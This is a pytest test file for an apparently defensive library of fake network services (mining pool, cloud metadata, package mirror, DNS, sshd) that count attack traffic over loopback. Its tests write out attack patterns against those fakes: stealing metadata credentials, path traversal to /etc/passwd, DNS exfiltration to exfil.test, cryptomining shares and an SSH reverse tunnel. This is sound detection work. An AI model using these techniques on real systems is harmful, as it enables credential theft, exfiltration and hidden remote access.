"""The fakes are evidence, so they are tested with real clients over loopback: what is sent is what is counted."""

import asyncio
import hashlib
import json
import os
import shutil
import socket
from pathlib import Path

import dns.asyncquery
import dns.message
import dns.rcode
import pytest

from vallum.testing.fakes import (
    DatagramSink,
    DnsServer,
    InternalHosts,
    MetadataService,
    PackageMirror,
    Sshd,
    StratumPool,
)
from vallum.testing.fakes.base import Received
from vallum.testing.fakes.stratum import is_share

ANY = ("127.0.0.1", 0)


async def talk(endpoint, *messages: bytes, wait_for_reply: bool = True) -> list[bytes]:
    reader, writer = await asyncio.open_connection(*endpoint)
    replies = []
    for message in messages:
        writer.write(message)
        await writer.drain()
        if wait_for_reply:
            replies.append(await asyncio.wait_for(reader.read(65536), 5))
    writer.close()
    await writer.wait_closed()
    return replies


async def eventually(condition) -> None:
    async with asyncio.timeout(5):
        while not condition():
            await asyncio.sleep(0.01)


def line(**message) -> bytes:
    return json.dumps(message).encode() + b"\n"


def mine(job: bytes) -> bytes:
    return next(nonce for n in range(1 << 24) if is_share(job, nonce := n.to_bytes(4, "big")))


async def test_a_pool_counts_only_shares_that_are_work():
    async with StratumPool([ANY]) as pool:
        reader, writer = await asyncio.open_connection(*pool.endpoints[0])
        writer.write(line(id=1, method="mining.subscribe", params=["toy/1"]))
        assert json.loads(await reader.readline())["id"] == 1
        writer.write(line(id=2, method="mining.authorize", params=["wallet.worker", "x"]))
        assert json.loads(await reader.readline())["result"] is True
        job = bytes.fromhex(json.loads(await reader.readline())["params"]["blob"])
        nonce = mine(job)
        for number, tried in enumerate(
            (nonce, nonce, b"\x00" * 33, next(n for i in range(9) if not is_share(job, n := bytes([i]))))
        ):
            writer.write(line(id=10 + number, method="mining.submit", params=["wallet.worker", "1", tried.hex()]))
            assert json.loads(await reader.readline())["result"] is (number == 0)
        writer.close()
        got = pool.received[pool.endpoints[0]]
        assert got.units == {"subscribes": 1, "logins": 1, "submits": 4, "shares": 1}
        assert got.connections == 1
        assert got.payload_bytes > 200


async def test_a_pool_speaks_the_other_dialect_and_survives_nonsense():
    async with StratumPool([ANY]) as pool:
        reader, writer = await asyncio.open_connection(*pool.endpoints[0])
        writer.write(line(id=1, jsonrpc="2.0", method="login", params={"login": "wallet", "pass": "x", "agent": "toy"}))
        job = json.loads(await reader.readline())["result"]["job"]
        writer.write(line(id=2, method="submit", params={"id": "1", "nonce": mine(bytes.fromhex(job["blob"])).hex()}))
        assert json.loads(await reader.readline())["result"] is True
        writer.write(line(id=3, method="submit", params={"nonce": ["not", "hex"]}))
        assert json.loads(await reader.readline())["result"] is False
        writer.write(b"\xff\xfe not json\n")
        assert await reader.read() == b""
        writer.close()
        assert pool.received[pool.endpoints[0]].units == {"logins": 1, "submits": 2, "shares": 1}


async def test_metadata_gives_secrets_away_and_counts_it():
    async with MetadataService([ANY]) as metadata:
        at = metadata.endpoints[0]
        path = "/latest/meta-data/iam/security-credentials/"
        [role] = await talk(at, f"GET {path} HTTP/1.0\r\n\r\n".encode())
        name = role.rpartition(b"\r\n")[2].decode()
        [body] = await talk(at, f"GET {path}{name} HTTP/1.1\r\nHost: m\r\nConnection: close\r\n\r\n".encode())
        assert metadata.access_key.startswith("AKIAFAKE")
        assert metadata.access_key.encode() in body
        assert metadata.received[at].units == {"requests": 2, "listings": 1, "secrets_read": 1}


async def test_metadata_version_2_wants_its_token():
    async with MetadataService([ANY], is_token_required=True) as metadata:
        at = metadata.endpoints[0]
        get = b"GET /latest/meta-data/ami-id HTTP/1.1\r\nHost: m\r\n%s\r\n"
        [refused] = await talk(at, get % b"")
        assert refused.startswith(b"HTTP/1.1 401")
        put = b"PUT /latest/api/token HTTP/1.1\r\nHost: m\r\nX-aws-ec2-metadata-token-ttl-seconds: 60\r\nContent-Length: 0\r\n\r\n"
        [given] = await talk(at, put)
        token = given.rpartition(b"\r\n")[2]
        [body] = await talk(at, get % (b"X-aws-ec2-metadata-token: " + token + b"\r\n"))
        assert body.endswith(b"ami-0fake0fake0fake0")
        [wrong] = await talk(at, get % b"X-aws-ec2-metadata-token: guessed\r\n")
        assert wrong.startswith(b"HTTP/1.1 401")
        assert metadata.received[at].units == {"requests": 4, "refused": 2, "tokens": 1, "listings": 1}


async def test_a_mirror_serves_what_it_says_it_serves():
    async with PackageMirror([ANY]) as mirror:
        at = mirror.endpoints[0]
        [name] = mirror.packages
        index, package = await talk(
            at, b"GET / HTTP/1.1\r\nHost: m\r\n\r\n", f"GET /packages/{name} HTTP/1.1\r\nHost: m\r\n\r\n".encode()
        )
        assert mirror.sha256(name).encode() in index
        body = package.partition(b"\r\n\r\n")[2]
        assert hashlib.sha256(body).hexdigest() == mirror.sha256(name)
        [missing] = await talk(at, b"GET /packages/../etc/passwd HTTP/1.1\r\nHost: m\r\n\r\n")
        assert missing.startswith(b"HTTP/1.1 404")
        assert mirror.received[at].units == {"requests": 3, "downloads": 1, "downloaded_bytes": len(body)}


async def test_what_is_not_http_is_still_counted():
    async with PackageMirror([ANY]) as mirror:
        at = mirror.endpoints[0]
        await talk(at, b"SSH-2.0-sneaky\r\n\r\n", wait_for_reply=False)
        await eventually(lambda: "not_http" in mirror.received[at].units)
        assert mirror.received[at].payload_bytes == 18


async def test_internal_hosts_greet_or_answer():
    services = {0: 22}
    async with InternalHosts(["127.0.0.1"], [0], services=services) as hosts:
        at = hosts.endpoints[0]
        services[at.port] = 22
        reader, writer = await asyncio.open_connection(*at)
        assert (await reader.readline()).startswith(b"SSH-2.0-")
        assert hosts.received[at] == Received(connections=1)
        writer.write(b"x")
        await reader.read()
        assert hosts.received[at] == Received(connections=1, payload_bytes=1, units={"probes": 1})
        writer.close()


async def test_names_are_answered_and_questions_kept():
    async with DnsServer([ANY], {"mirror.test": ["192.0.2.20", "2001:db8::20"]}) as server:
        [at] = server.endpoints
        for kind, answer in (("A", "192.0.2.20"), ("AAAA", "2001:db8::20")):
            reply = await dns.asyncquery.udp(
                dns.message.make_query("Mirror.test", kind), at.host, port=at.port, timeout=5
            )
            assert answer in reply.answer[0].to_text()
        empty = await dns.asyncquery.tcp(dns.message.make_query("mirror.test", "TXT"), at.host, port=at.port, timeout=5)
        assert empty.rcode() == dns.rcode.NOERROR
        assert not empty.answer
        missing = await dns.asyncquery.tcp(
            dns.message.make_query("c2VjcmV0.exfil.test", "A"), at.host, port=at.port, timeout=5
        )
        assert missing.rcode() == dns.rcode.NXDOMAIN
        assert server.queries[-1] == ("c2vjcmv0.exfil.test", "A")
        assert server.received[at].units == {"queries": 4}
        assert server.received[at].connections == 4


async def test_datagrams_are_counted():
    async with DatagramSink([ANY]) as sink:
        [at] = sink.endpoints
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"beacon", at)
        await eventually(lambda: sink.received[at].connections)
        assert sink.received[at] == Received(connections=1, payload_bytes=6)


async def test_since_tells_only_what_is_new():
    before = Received(connections=1, payload_bytes=10, units={"shares": 2, "logins": 1})
    now = Received(connections=3, payload_bytes=15, units={"shares": 5, "logins": 1})
    assert now.since(before) == Received(connections=2, payload_bytes=5, units={"shares": 3})
    assert before.since(before).is_nothing()
    assert not Received(connections=1).is_nothing()


async def test_a_port_that_is_taken_is_an_error_and_leaves_nothing_open():
    async with DatagramSink([ANY]), StratumPool([ANY]) as pool:
        taken = pool.endpoints[0]
        other = StratumPool([ANY, taken])
        with pytest.raises(OSError):
            await other.start()
        assert other._servers == []


@pytest.mark.skipif(
    not Path("/usr/sbin/sshd").exists() or not shutil.which("ssh"), reason="needs openssh-server and openssh-client"
)
async def test_a_reverse_tunnel_through_the_real_sshd_is_seen_and_its_payload_counted(tmp_path: Path):
    greeted = asyncio.Event()

    async def inside(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"shell of the inside\n")
        await writer.drain()
        greeted.set()
        writer.close()

    service = await asyncio.start_server(inside, "127.0.0.1", 0)
    async with service, Sshd([ANY]) as sshd:
        [at] = sshd.endpoints
        key = tmp_path / "key"
        key.write_text(sshd.client_key)
        key.chmod(0o600)
        port = service.sockets[0].getsockname()[1]
        client = await asyncio.create_subprocess_exec(
            "ssh", "-F", "/dev/null", "-N", "-i", str(key), "-p", str(at.port), "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null", "-o", "ExitOnForwardFailure=yes", "-o", "BatchMode=yes",
            "-R", f"0:localhost:{port}", f"{sshd.login}@{at.host}",
            stderr=asyncio.subprocess.DEVNULL,
        )  # fmt: skip
        try:
            await asyncio.wait_for(greeted.wait(), 15)
            await eventually(lambda: sshd.received[at].units.get("tunnel_bytes"))
        finally:
            client.kill()
            await client.wait()
        assert sshd.received[at].units == {"banners": 1, "forward_listeners": 1, "tunnel_bytes": 20}, sshd.log
        assert sshd.received[at].connections == 1
        home = Path(sshd._home.name)
    assert not home.exists()
    assert not os.path.exists(f"/proc/{sshd._process.pid}") if sshd._process else True
